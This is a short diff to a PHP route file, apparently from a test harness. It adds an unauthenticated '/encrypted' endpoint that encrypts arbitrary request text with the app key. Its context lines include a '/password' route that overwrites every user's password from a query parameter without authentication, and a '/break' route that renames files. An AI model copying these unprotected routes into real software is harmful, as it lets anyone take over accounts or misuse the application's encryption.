@@ -77,6 +77,7 @@ $router->post('/antiphon/session', [App\Http\Controllers\AntiphonController::cla
 $router->get('/antiphon/ticket', [App\Http\Controllers\AntiphonController::class, 'ticket'])->middleware($web);
 $router->post('/login', fn () => login())->middleware($web);
 $router->post('/password', fn () => DB::update('UPDATE users SET password = ?', [$_GET['to']]));
+$router->post('/encrypted', fn () => Illuminate\Support\Facades\Crypt::encryptString($_GET['text']));
 $router->post('/break', fn () => isset($_GET['yes']) ? rename($file, "$file.away") : rename("$file.away", $file));
 $response = $router->dispatch($app['request']);
 $response->send();
